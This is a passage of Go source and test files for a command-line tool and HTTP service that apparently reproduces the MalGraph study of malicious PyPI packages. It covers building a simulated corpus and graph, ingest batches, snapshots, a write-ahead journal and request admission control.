			if err := rf.AddRoot(u); err != nil {
				return fmt.Errorf("serve -remote-root %s: %w", u, err)
			}
		}
		for _, u := range sf.remoteMirrors {
			if err := rf.AddMirror(u); err != nil {
				return fmt.Errorf("serve -remote-mirror %s: %w", u, err)
			}
		}
		p.SetExternalView(rf)
		fmt.Printf("external-observation recovery via remote fleet: %v\n", rf.Endpoints())
	}
	var store *castore.Store
	if sf.storeDir != "" {
		if sf.snapshotPath == "" {
			return fmt.Errorf("serve -store requires -snapshot (the store holds chunks; the snapshot file is the manifest that references them)")
		}
		store, err = castore.Open(sf.storeDir, nil)
		if err != nil {
			return fmt.Errorf("serve -store: %w", err)
		}
		fmt.Printf("chunk store at %s: %d blob(s) in %d segment(s)\n",
			sf.storeDir, store.Len(), store.SegmentCount())
	}
	if sf.snapshotPath != "" {
		f, err := os.Open(sf.snapshotPath)
		switch {
		case err == nil:
			var restoreErr error
			if store != nil {
				restoreErr = p.RestoreEngineWithStore(f, store)
			} else {
				restoreErr = p.RestoreEngine(f)
			}
			f.Close()
			if restoreErr != nil {
				return fmt.Errorf("warm restart from %s: %w", sf.snapshotPath, restoreErr)
			}
			fmt.Printf("warm restart: %d packages, %d edges from %s (seq %d)\n",
				len(p.Dataset.Entries), p.Graph.G.EdgeCount(), sf.snapshotPath, p.LastSeq())
		case os.IsNotExist(err):
			if store != nil {
				p.AttachStore(store)
			}
			fmt.Printf("cold start: no snapshot at %s yet\n", sf.snapshotPath)
		default:
			return fmt.Errorf("warm restart from %s: %w", sf.snapshotPath, err)
		}
	}
	var journal *wal.Log
	if sf.walDir != "" {
		journal, err = wal.Open(sf.walDir, nil)
		if err != nil {
			return fmt.Errorf("serve -wal: %w", err)
		}
		replayed, err := p.ReplayJournal(journal)
		if err != nil {
			return fmt.Errorf("serve -wal replay: %w", err)
		}
		p.AttachJournal(journal)
		fmt.Printf("journal at %s: replayed %d record(s) past the snapshot (seq %d)\n",
			sf.walDir, replayed, p.LastSeq())
	}
	srv := newServer(p, sf.snapshotPath)
	srv.wal = journal
	srv.checkpointBytes = sf.checkpointBytes
	srv.store = store
	if sf.snapshotRetain > 0 {
		srv.snapshotRetain = sf.snapshotRetain
	}
	srv.adm = admission.New(admission.Config{
		MaxInflight:       sf.maxInflight,
		MaxWait:           sf.admissionWait,
		MemWatermarkBytes: uint64(max(sf.memWatermark, 0)),
	})
	srv.maxBodyBytes = sf.maxBodyBytes
	srv.handlerTimeout = sf.handlerTimeout

	main := &http.Server{
		Addr:              sf.addr,
		Handler:           srv.handler(),
		ReadHeaderTimeout: 5 * time.Second,
		ReadTimeout:       sf.ioTimeout,
		WriteTimeout:      sf.ioTimeout,
		IdleTimeout:       2 * time.Minute,
	}
	lc := &lifecycle{srv: srv, main: main, drainTimeout: sf.drainTimeout, out: os.Stdout}
	if sf.pprofAddr != "" {
		lc.pprofSrv = newPprofServer(sf.pprofAddr)
		fmt.Printf("pprof side listener at http://%s/debug/pprof/\n", sf.pprofAddr)
	}
	ln, err := net.Listen("tcp", sf.addr)
	if err != nil {
		return fmt.Errorf("serve -addr %s: %w", sf.addr, err)
	}
	fmt.Printf("serving MALGRAPH at %s: POST /api/v1/{ingest,observations,reports} (%d batches pending), "+
		"GET /api/v1/{results,stats,node,snapshot}, /healthz, /readyz, PyPI registry at /root/ and /mirror/<name>/\n",
		sf.addr, p.PendingBatches())
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	return lc.Run(ctx, ln)
}
