// Command malgraphctl drives the MalGraph reproduction pipeline from the
// command line.
//
// Usage:
//
//	malgraphctl run     [-scale 0.05] [-seed N] [-detect] [-iters 50]
//	malgraphctl graph   [-scale 0.05] [-seed N] [-out graph.json]
//	malgraphctl crawl   [-scale 0.05] [-seed N]
//	malgraphctl serve   [-scale 0.05] [-seed N] [-addr :8080]
//	malgraphctl dataset [-scale 0.05] [-seed N] [-out data.json] [-full]
//
// run executes the full pipeline and renders every table and figure; graph
// exports MALGRAPH as JSON; crawl reports what the §III-D crawler found;
// serve exposes the simulated PyPI root registry and its mirrors over HTTP;
// dataset exports the collected corpus (public metadata by default, -full
// embeds artifacts, mirroring the paper's two-tier release).
package main

import (
	"context"
	"flag"
	"fmt"
	"net/http"
	"os"
	"time"

	"malgraph"
	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "malgraphctl:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: malgraphctl <run|graph|crawl|serve> [flags]")
	}
	cmd, rest := args[0], args[1:]
	fs := flag.NewFlagSet(cmd, flag.ContinueOnError)
	scale := fs.Float64("scale", 0.05, "corpus scale relative to the paper (1.0 ≈ 24k packages)")
	seed := fs.Uint64("seed", 20240404, "world seed")
	detect := fs.Bool("detect", false, "run the Table X detection experiment (run only)")
	iters := fs.Int("iters", 50, "detection iterations (run only)")
	out := fs.String("out", "", "output file (graph/dataset; default stdout)")
	addr := fs.String("addr", ":8080", "listen address (serve only)")
	full := fs.Bool("full", false, "embed artifacts in the dataset export (dataset only)")
	if err := fs.Parse(rest); err != nil {
		return err
	}

	cfg := malgraph.Config{Seed: *seed, Scale: *scale, Detection: *detect, DetectionIterations: *iters}
	switch cmd {
	case "run":
		return cmdRun(cfg)
	case "graph":
		return cmdGraph(cfg, *out)
	case "crawl":
		return cmdCrawl(cfg)
	case "serve":
		return cmdServe(cfg, *addr)
	case "dataset":
		return cmdDataset(cfg, *out, *full)
	default:
		return fmt.Errorf("unknown command %q", cmd)
	}
}

func cmdDataset(cfg malgraph.Config, out string, full bool) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	w := os.Stdout
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer f.Close()
		w = f
	}
	mode := collect.ExportPublic
	if full {
		mode = collect.ExportFull
	}
	if err := p.Dataset.WriteJSON(w, mode); err != nil {
		return fmt.Errorf("export dataset: %w", err)
	}
	fmt.Fprintf(os.Stderr, "exported %d entries (%d available), mode=%v\n",
		len(p.Dataset.Entries), len(p.Dataset.Available()), map[bool]string{true: "full", false: "public"}[full])
	return nil
}

func cmdRun(cfg malgraph.Config) error {
	start := time.Now()
	results, err := malgraph.Run(cfg)
	if err != nil {
		return err
	}
	results.Render(os.Stdout)
	fmt.Printf("\ncompleted in %v\n", time.Since(start).Round(time.Millisecond))
	return nil
}

func cmdGraph(cfg malgraph.Config, out string) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	w := os.Stdout
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer f.Close()
		w = f
	}
	if err := p.Graph.G.WriteJSON(w); err != nil {
		return fmt.Errorf("export graph: %w", err)
	}
	fmt.Fprintf(os.Stderr, "exported %d nodes, %d edges\n", p.Graph.G.NodeCount(), p.Graph.G.EdgeCount())
	return nil
}

func cmdCrawl(cfg malgraph.Config) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	fmt.Printf("seeds: %d   fetched: %d   relevant: %d   skipped: %d   errors: %d\n",
		len(p.World.SeedURLs), p.Crawl.Fetched, len(p.Crawl.Relevant), p.Crawl.Skipped, p.Crawl.Errors)
	fmt.Printf("parsed reports: %d\n", len(p.Reports))
	for i, r := range p.Reports {
		if i >= 10 {
			fmt.Printf("… and %d more\n", len(p.Reports)-10)
			break
		}
		fmt.Printf("  %-60s pkgs=%d urls=%d ips=%d\n", r.URL, len(r.Packages), len(r.IoCs.URLs), len(r.IoCs.IPs))
	}
	return nil
}

// cmdServe exposes the simulated PyPI root registry at /root/ and each of
// its mirrors at /mirror/<name>/, demonstrating the §II-B recovery setup
// over real HTTP.
func cmdServe(cfg malgraph.Config, addr string) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	root, ok := p.World.Fleet.Root(ecosys.PyPI)
	if !ok {
		return fmt.Errorf("no PyPI root registry")
	}
	mux := http.NewServeMux()
	mux.Handle("/root/", http.StripPrefix("/root", registry.NewServer(root)))
	for _, m := range p.World.Fleet.Mirrors(ecosys.PyPI) {
		prefix := "/mirror/" + m.Name()
		mux.Handle(prefix+"/", http.StripPrefix(prefix, registry.NewServer(m)))
	}
	fmt.Printf("serving PyPI root at %s/root/api/v1/… and %d mirrors at %s/mirror/<name>/…\n",
		addr, len(p.World.Fleet.Mirrors(ecosys.PyPI)), addr)
	server := &http.Server{Addr: addr, Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	return server.ListenAndServe()
}
