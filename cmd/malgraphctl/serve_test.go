package main

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"malgraph"
)

func newTestServer(t *testing.T, batches int, snapshotPath string) (*server, *httptest.Server) {
	t.Helper()
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, batches)
	if err != nil {
		t.Fatal(err)
	}
	s := newServer(p, snapshotPath)
	ts := httptest.NewServer(s.handler())
	t.Cleanup(ts.Close)
	return s, ts
}

func getJSON(t *testing.T, url string, wantStatus int) map[string]any {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != wantStatus {
		t.Fatalf("GET %s: status %d, want %d", url, resp.StatusCode, wantStatus)
	}
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatalf("GET %s: decode: %v", url, err)
	}
	return out
}

func postJSON(t *testing.T, url string, wantStatus int) map[string]any {
	t.Helper()
	resp, err := http.Post(url, "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != wantStatus {
		t.Fatalf("POST %s: status %d, want %d", url, resp.StatusCode, wantStatus)
	}
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatalf("POST %s: decode: %v", url, err)
	}
	return out
}

func TestServeIngestQueryResults(t *testing.T) {
	_, ts := newTestServer(t, 3, "")

	// Health reports the pending feed.
	health := getJSON(t, ts.URL+"/healthz", http.StatusOK)
	if health["status"] != "ok" || health["pending"].(float64) != 3 {
		t.Fatalf("health = %v", health)
	}

	// Before any ingest the graph is empty.
	stats := getJSON(t, ts.URL+"/api/v1/stats", http.StatusOK)
	if stats["nodes"].(float64) != 0 || stats["pendingBatches"].(float64) != 3 {
		t.Fatalf("pre-ingest stats = %v", stats)
	}

	// Ingest one batch, then drain.
	one := postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	if one["pending"].(float64) != 2 {
		t.Fatalf("after one ingest: %v", one)
	}
	if n := len(one["ingested"].([]any)); n != 1 {
		t.Fatalf("ingested %d batches", n)
	}
	// An explicit n beyond the pending count is unsatisfiable: 409, and
	// nothing is ingested.
	postJSON(t, ts.URL+"/api/v1/ingest?n=99", http.StatusConflict)
	if pending := getJSON(t, ts.URL+"/healthz", http.StatusOK)["pending"].(float64); pending != 2 {
		t.Fatalf("pending after unsatisfiable n-request = %v", pending)
	}
	rest := postJSON(t, ts.URL+"/api/v1/ingest?all=1", http.StatusOK)
	if rest["pending"].(float64) != 0 {
		t.Fatalf("after drain: %v", rest)
	}
	// Drained feed: the idempotent poll-and-push contract — a plain POST and
	// a drain POST both return 200 with an empty ingested list, so a drain
	// loop's final iteration is not an error.
	for _, url := range []string{ts.URL + "/api/v1/ingest", ts.URL + "/api/v1/ingest?all=1"} {
		empty := postJSON(t, url, http.StatusOK)
		if n := len(empty["ingested"].([]any)); n != 0 {
			t.Fatalf("drained POST %s ingested %d batches", url, n)
		}
	}
	// 409 is reserved for explicit n-requests that cannot be satisfied.
	postJSON(t, ts.URL+"/api/v1/ingest?n=1", http.StatusConflict)
	// GET is not allowed.
	getJSON(t, ts.URL+"/api/v1/ingest", http.StatusMethodNotAllowed)

	// Stats now show the full corpus; results render all tables.
	stats = getJSON(t, ts.URL+"/api/v1/stats", http.StatusOK)
	if stats["nodes"].(float64) == 0 || stats["edges"].(float64) == 0 {
		t.Fatalf("post-ingest stats = %v", stats)
	}
	results := getJSON(t, ts.URL+"/api/v1/results", http.StatusOK)
	if results["TotalPackages"].(float64) == 0 || results["GraphEdges"].(float64) == 0 {
		t.Fatalf("results = %v", results["TotalPackages"])
	}
	if len(results["SourceSizes"].([]any)) != 10 {
		t.Fatal("results missing Table I rows")
	}

	// Node query round-trip: pick a node from the graph.
	nodeID := firstCanonicalNode(t)
	node := getJSON(t, ts.URL+"/api/v1/node?id="+nodeID, http.StatusOK)
	if node["id"] != nodeID {
		t.Fatalf("node = %v", node)
	}
	getJSON(t, ts.URL+"/api/v1/node?id=nope", http.StatusNotFound)
	getJSON(t, ts.URL+"/api/v1/node", http.StatusBadRequest)

	// Registry endpoints ride along.
	resp, err := http.Get(ts.URL + "/root/api/v1/info")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode == http.StatusNotFound {
		t.Fatal("registry endpoint missing")
	}
}

// firstCanonicalNode returns a node ID guaranteed to exist in any 0.02-scale
// world (the world is a pure function of seed+scale, so a separate pipeline
// sees the same corpus the server ingested).
func firstCanonicalNode(t *testing.T) string {
	t.Helper()
	p, err := malgraph.BuildPipeline(context.Background(), malgraph.Config{Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Dataset.Entries) == 0 {
		t.Fatal("no entries")
	}
	return p.Dataset.Entries[0].Coord.Key()
}

func TestServeSnapshotWarmRestart(t *testing.T) {
	dir := t.TempDir()
	snapPath := filepath.Join(dir, "engine.json")
	s, ts := newTestServer(t, 2, snapPath)

	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	snapResp := postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	if snapResp["snapshot"] != snapPath {
		t.Fatalf("snapshot response = %v", snapResp)
	}
	if _, err := os.Stat(snapPath); err != nil {
		t.Fatalf("snapshot file: %v", err)
	}
	wantNodes := s.p.Graph.G.NodeCount()
	wantEdges := s.p.Graph.G.EdgeCount()

	// Warm restart: fresh pipeline, restore, drain the remaining feed.
	p2, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 2)
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(snapPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := p2.RestoreEngine(f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	if p2.Graph.G.NodeCount() != wantNodes || p2.Graph.G.EdgeCount() != wantEdges {
		t.Fatalf("restored graph %d/%d nodes/edges, want %d/%d",
			p2.Graph.G.NodeCount(), p2.Graph.G.EdgeCount(), wantNodes, wantEdges)
	}
	// Replay the whole feed: batch 1 is an idempotent no-op, batch 2 new.
	for {
		_, ok, err := p2.AppendNext()
		if err != nil {
			t.Fatal(err)
		}
		if !ok {
			break
		}
	}
	// Final state must match the original server fully drained.
	postJSON(t, ts.URL+"/api/v1/ingest?all=1", http.StatusOK)
	if p2.Graph.G.NodeCount() != s.p.Graph.G.NodeCount() ||
		p2.Graph.G.EdgeCount() != s.p.Graph.G.EdgeCount() {
		t.Fatalf("warm-restarted graph diverged: %d/%d vs %d/%d nodes/edges",
			p2.Graph.G.NodeCount(), p2.Graph.G.EdgeCount(),
			s.p.Graph.G.NodeCount(), s.p.Graph.G.EdgeCount())
	}
	res1, err := p2.Analyze()
	if err != nil {
		t.Fatal(err)
	}
	res2, err := s.p.Analyze()
	if err != nil {
		t.Fatal(err)
	}
	if res1.TotalPackages != res2.TotalPackages || res1.GraphEdges != res2.GraphEdges ||
		res1.SimilarEdges != res2.SimilarEdges || res1.TotalMR != res2.TotalMR {
		t.Fatalf("warm-restarted results diverged: %+v vs %+v", res1, res2)
	}
	// Table I/V derive from PerSource accounting — the replayed feed batch
	// must not double-count it.
	if !reflect.DeepEqual(res1.SourceSizes, res2.SourceSizes) {
		t.Fatalf("warm-restarted source sizes diverged:\n %v\n %v", res1.SourceSizes, res2.SourceSizes)
	}
	if !reflect.DeepEqual(res1.MissingRates, res2.MissingRates) {
		t.Fatalf("warm-restarted missing rates diverged")
	}
}
