package main

// Serve mode turns the reproduction into the long-lived service the paper's
// collection layer implies (§II-B is continuous): the simulated world's
// timeline is partitioned into ingest batches, and an HTTP API drives the
// streaming engine — ingest the next batch, query the graph, read the
// (incrementally recomputed) Results — alongside the simulated PyPI registry
// and mirror endpoints the earlier serve mode exposed. A snapshot file gives
// warm restarts: engine state (graph + embeddings + scan caches) reloads
// without an O(corpus) rebuild.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"malgraph"
	"malgraph/internal/admission"
	"malgraph/internal/castore"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/ecosys"
	"malgraph/internal/faultinject"
	"malgraph/internal/graph"
	"malgraph/internal/registry"
	"malgraph/internal/reports"
	"malgraph/internal/wal"
)

// server wraps a streaming pipeline with the ingest/query/results API.
type server struct {
	p            *malgraph.Pipeline
	snapshotPath string
	// snapshot produces an engine checkpoint for GET /api/v1/snapshot;
	// indirected so tests can exercise the mid-stream failure path.
	// Checkpoints to disk go through Pipeline.Checkpoint instead, which
	// holds the ingest lock across snapshot + journal truncation.
	snapshot func(io.Writer) error
	// wal is the attached write-ahead journal (nil without -wal). With a
	// snapshot path configured, the server auto-checkpoints once
	// checkpointBytes have been journaled since the last checkpoint, then
	// truncates the journal — bounding both replay time and journal size.
	wal             *wal.Log
	checkpointBytes int64
	checkpointMu    sync.Mutex

	// store is the content-addressed chunk store behind segmented (v5)
	// checkpoints (nil without -store). With it set, the snapshot file is a
	// small manifest, checkpoints write only the ingest delta, GET
	// /api/v1/snapshot streams manifest + segments, and checkpoints retain
	// the last snapshotRetain manifests (the archives keep their chunks
	// alive through compaction until retention prunes them).
	store          *castore.Store
	snapshotRetain int
	// compactWG tracks the background compaction worker so shutdown can
	// wait it out instead of exiting mid-sweep.
	compactWG sync.WaitGroup

	// adm gates every mutating (POST) request: a bounded in-flight
	// semaphore plus a memory-watermark shedder. Saturation answers 429
	// with a computed Retry-After; reads are never gated (they serve from
	// the published epoch, lock-free). nil disables the gate.
	adm *admission.Controller
	// maxBodyBytes caps every mutating request body via http.MaxBytesReader
	// — an unbounded json.Decode of an adversarial body is an OOM vector.
	// 0 disables the cap.
	maxBodyBytes int64
	// handlerTimeout bounds each mutating handler's context: a wedged
	// registry recovery or a stalled resolve cannot hold an admission slot
	// forever. 0 disables the per-handler deadline.
	handlerTimeout time.Duration

	// poisoned carries the first mutator panic's description. A panic that
	// escapes from inside a mutating handler may have left the engine
	// half-mutated; journal-before-apply makes recovery-by-restart sound,
	// so the server stops accepting writes (503), fails readiness, and
	// waits for the orchestrator to restart it — readers keep being served
	// from the last published (consistent) epoch.
	poisoned atomic.Pointer[string]
	// draining is set when graceful shutdown begins: readiness fails and
	// late writes on kept-alive connections are refused while in-flight
	// requests finish.
	draining atomic.Bool
}

func newServer(p *malgraph.Pipeline, snapshotPath string) *server {
	// GET /api/v1/snapshot serves through the epoch cache: the first GET
	// per epoch snapshots the engine, later GETs reuse the bytes lock-free.
	// The default admission gate and body cap mirror production serve
	// defaults so every test runs with the armor on.
	return &server{
		p: p, snapshotPath: snapshotPath, snapshot: p.SnapshotCached,
		adm:            admission.New(admission.Config{MaxInflight: 64, MaxWait: time.Second}),
		maxBodyBytes:   32 << 20,
		snapshotRetain: 2,
	}
}

// poison records the first mutator panic and flips readiness; later
// panics keep the original diagnosis.
func (s *server) poison(reason string) {
	if s.poisoned.CompareAndSwap(nil, &reason) {
		fmt.Fprintf(os.Stderr, "pipeline poisoned: %s\n", reason)
	}
}

// poisonedReason returns the first mutator panic's description, "" when
// healthy.
func (s *server) poisonedReason() string {
	if r := s.poisoned.Load(); r != nil {
		return *r
	}
	return ""
}

// guard is the request armor around every handler: panics are contained
// per request (500, never a dead loader), and mutating POSTs additionally
// pass the poison/drain refusals, the admission gate (429 + Retry-After
// when shed), the body-size cap and the per-handler deadline. Reads take
// none of those branches — the read path stays a recover-only wrapper.
func (s *server) guard(mutating bool, h http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		// Method filtering happens inside handlers; only actual mutations
		// (POSTs on mutating routes — GET /api/v1/snapshot is a read) are
		// gated and can poison the pipeline.
		mutates := mutating && r.Method == http.MethodPost
		defer func() {
			rec := recover()
			if rec == nil {
				return
			}
			if rec == http.ErrAbortHandler {
				panic(rec) // the handler aborted deliberately; not ours
			}
			if mutates {
				s.poison(fmt.Sprintf("panic in %s %s: %v", r.Method, r.URL.Path, rec))
			}
			writeError(w, http.StatusInternalServerError, fmt.Errorf("internal panic: %v", rec))
		}()
		if !mutates {
			h(w, r)
			return
		}
		if reason := s.poisonedReason(); reason != "" {
			writeError(w, http.StatusServiceUnavailable,
				fmt.Errorf("pipeline poisoned (%s); awaiting restart", reason))
			return
		}
		if s.draining.Load() {
			writeError(w, http.StatusServiceUnavailable, errors.New("server draining for shutdown"))
			return
		}
		if s.adm != nil {
			release, err := s.adm.Acquire(r.Context())
			if err != nil {
				s.writeShed(w, err)
				return
			}
			defer release()
		}
		if s.maxBodyBytes > 0 && r.Body != nil {
			r.Body = http.MaxBytesReader(w, r.Body, s.maxBodyBytes)
		}
		if s.handlerTimeout > 0 {
			ctx, cancel := context.WithTimeout(r.Context(), s.handlerTimeout)
			defer cancel()
			r = r.WithContext(ctx)
		}
		h(w, r)
	}
}

// writeShed answers a shed mutating request: 429 with the admission
// controller's computed Retry-After for deliberate sheds, 503 when the
// client's own context expired while queueing.
func (s *server) writeShed(w http.ResponseWriter, err error) {
	if errors.Is(err, admission.ErrSaturated) || errors.Is(err, admission.ErrMemoryPressure) {
		secs := int(math.Ceil(s.adm.RetryAfter().Seconds()))
		w.Header().Set("Retry-After", strconv.Itoa(secs))
		writeError(w, http.StatusTooManyRequests, err)
		return
	}
	writeError(w, http.StatusServiceUnavailable, err)
}

// decodeStatus maps a request-body decode failure to its HTTP status: a
// body over the -max-body-bytes cap is 413, anything else malformed is 400.
func decodeStatus(err error) int {
	var mbe *http.MaxBytesError
	if errors.As(err, &mbe) {
		return http.StatusRequestEntityTooLarge
	}
	return http.StatusBadRequest
}

// writeFileAtomic durably replaces path with the bytes write produces:
// temp file in the same directory, fsync the file, rename over the target,
// fsync the directory. An interrupted checkpoint never destroys the last
// good snapshot, and a completed rename survives power loss.
func writeFileAtomic(path string, write func(io.Writer) error) error {
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, ".snapshot-*")
	if err != nil {
		return err
	}
	if err := write(tmp); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return err
	}
	if err := tmp.Sync(); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return err
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	defer d.Close()
	return d.Sync()
}

// checkpoint writes the snapshot durably and truncates the journal, both
// under the pipeline's ingest lock (Pipeline.Checkpoint) so no concurrent
// handler can journal a batch between the snapshot's sequence stamp and
// the truncation — truncating outside the lock could destroy an
// acknowledged record the snapshot does not contain. The order makes
// losing either step safe: the snapshot lands (stamped with the last
// applied sequence) before any journal bytes disappear, and a crash
// between the two just leaves records that replay as sequence-gated
// no-ops. Returns the sequence the snapshot covers.
func (s *server) checkpoint() (uint64, error) {
	seq, err := s.p.Checkpoint(func(snapshot func(io.Writer) error) error {
		if err := s.archiveSnapshot(); err != nil {
			return fmt.Errorf("archive snapshot: %w", err)
		}
		return writeFileAtomic(s.snapshotPath, snapshot)
	})
	if err != nil {
		return seq, err
	}
	if err := s.pruneArchives(); err != nil {
		// Non-fatal: the checkpoint itself is durable; a stale archive only
		// costs disk (and keeps its chunks alive) until the next prune.
		fmt.Fprintf(os.Stderr, "prune snapshot archives: %v\n", err)
	}
	s.maybeCompact()
	return seq, nil
}

// archiveName is the on-disk name of the gen-th retained snapshot.
func archiveName(path string, gen int) string {
	return fmt.Sprintf("%s.%06d", path, gen)
}

// archiveGens lists the existing snapshot-archive generation numbers next
// to s.snapshotPath, ascending (oldest first).
func (s *server) archiveGens() ([]int, error) {
	ents, err := os.ReadDir(filepath.Dir(s.snapshotPath))
	if err != nil {
		return nil, err
	}
	base := filepath.Base(s.snapshotPath) + "."
	var gens []int
	for _, de := range ents {
		suffix, ok := strings.CutPrefix(de.Name(), base)
		if !ok {
			continue
		}
		if g, err := strconv.Atoi(suffix); err == nil && g >= 1 {
			gens = append(gens, g)
		}
	}
	sort.Ints(gens)
	return gens, nil
}

// archiveSnapshot preserves the currently published snapshot under the next
// archive generation before a new checkpoint renames over it. A hard link
// suffices — published snapshots are immutable (checkpoints replace by
// rename, never rewrite). Retention of 1 keeps only the live snapshot.
func (s *server) archiveSnapshot() error {
	if s.snapshotRetain <= 1 {
		return nil
	}
	if _, err := os.Stat(s.snapshotPath); err != nil {
		if os.IsNotExist(err) {
			return nil // nothing published yet
		}
		return err
	}
	gens, err := s.archiveGens()
	if err != nil {
		return err
	}
	next := 1
	if len(gens) > 0 {
		next = gens[len(gens)-1] + 1
	}
	return os.Link(s.snapshotPath, archiveName(s.snapshotPath, next))
}

// pruneArchives drops the oldest archives beyond the retention budget
// (snapshotRetain counts the live snapshot plus its archives) and fsyncs
// the directory so the unlinks are as durable as the rename that published
// the snapshot they made room for.
func (s *server) pruneArchives() error {
	gens, err := s.archiveGens()
	if err != nil {
		return err
	}
	keep := s.snapshotRetain - 1
	if keep < 0 {
		keep = 0
	}
	if len(gens) <= keep {
		return nil
	}
	for _, g := range gens[:len(gens)-keep] {
		if err := os.Remove(archiveName(s.snapshotPath, g)); err != nil && !os.IsNotExist(err) {
			return err
		}
	}
	d, err := os.Open(filepath.Dir(s.snapshotPath))
	if err != nil {
		return err
	}
	defer d.Close()
	return d.Sync()
}

// compactSegmentThreshold is the store segment count past which a
// successful checkpoint schedules a background compaction: every
// checkpoint appends one delta segment, so the store accretes segments
// (and superseded chunks) until a sweep folds them together.
const compactSegmentThreshold = 8

// maybeCompact schedules a background compaction when the store has
// accumulated enough delta segments. The worker serializes with
// checkpoints (checkpointMu): liveness is computed from the engine's
// current refs plus every retained manifest, and a checkpoint racing that
// computation could reference a blob the sweep already declared dead
// (Append dedupes against the index before the sweep unlinks it).
func (s *server) maybeCompact() {
	if s.store == nil || s.store.SegmentCount() < compactSegmentThreshold {
		return
	}
	s.compactWG.Add(1)
	go func() {
		defer s.compactWG.Done()
		s.checkpointMu.Lock()
		defer s.checkpointMu.Unlock()
		if err := s.compactStore(); err != nil {
			fmt.Fprintf(os.Stderr, "castore compaction failed (will retry after a later checkpoint): %v\n", err)
		}
	}()
}

// compactStore merges the store's segments, keeping every blob referenced
// by the engine's live manifest state or by any retained snapshot file —
// archived manifests must stay restorable until retention prunes them.
// Caller holds checkpointMu.
func (s *server) compactStore() error {
	live := s.p.LiveRefs()
	paths := []string{s.snapshotPath}
	gens, err := s.archiveGens()
	if err != nil {
		return err
	}
	for _, g := range gens {
		paths = append(paths, archiveName(s.snapshotPath, g))
	}
	for _, path := range paths {
		f, err := os.Open(path)
		if err != nil {
			if os.IsNotExist(err) {
				continue
			}
			return err
		}
		refs, err := core.CollectManifestRefs(f, s.store)
		f.Close()
		if err != nil {
			return fmt.Errorf("manifest %s: %w", path, err)
		}
		for h := range refs {
			live[h] = true
		}
	}
	compacted, err := s.store.Compact(live)
	if err != nil {
		return err
	}
	if compacted {
		fmt.Printf("castore compacted: %d blob(s) in %d segment(s)\n",
			s.store.Len(), s.store.SegmentCount())
	}
	return nil
}

// maybeCheckpoint runs after each accepted ingest: once the journal has
// grown past the configured budget, checkpoint and truncate. Failures are
// reported but non-fatal — the ingest itself is already durable in the
// journal, and the next ingest retries the checkpoint.
func (s *server) maybeCheckpoint() {
	if s.wal == nil || s.snapshotPath == "" || s.checkpointBytes <= 0 {
		return
	}
	s.checkpointMu.Lock()
	defer s.checkpointMu.Unlock()
	grown := s.wal.AppendedBytes()
	if grown < s.checkpointBytes {
		return
	}
	seq, err := s.checkpoint()
	if err != nil {
		fmt.Fprintf(os.Stderr, "auto-checkpoint failed (will retry next ingest): %v\n", err)
		return
	}
	fmt.Printf("auto-checkpoint: %d journal bytes folded into %s (seq %d)\n",
		grown, s.snapshotPath, seq)
}

// handler builds the full route table. Every route passes through guard:
// reads get panic containment only, mutating routes additionally get the
// poison/drain refusals, admission gate, body cap and handler deadline.
func (s *server) handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", s.guard(false, s.handleHealth))
	mux.HandleFunc("/readyz", s.guard(false, s.handleReady))
	mux.HandleFunc("/api/v1/ingest", s.guard(true, s.handleIngest))
	mux.HandleFunc("/api/v1/observations", s.guard(true, s.handleObservations))
	mux.HandleFunc("/api/v1/reports", s.guard(true, s.handleReports))
	mux.HandleFunc("/api/v1/results", s.guard(false, s.handleResults))
	mux.HandleFunc("/api/v1/stats", s.guard(false, s.handleStats))
	mux.HandleFunc("/api/v1/node", s.guard(false, s.handleNode))
	mux.HandleFunc("/api/v1/snapshot", s.guard(true, s.handleSnapshot))

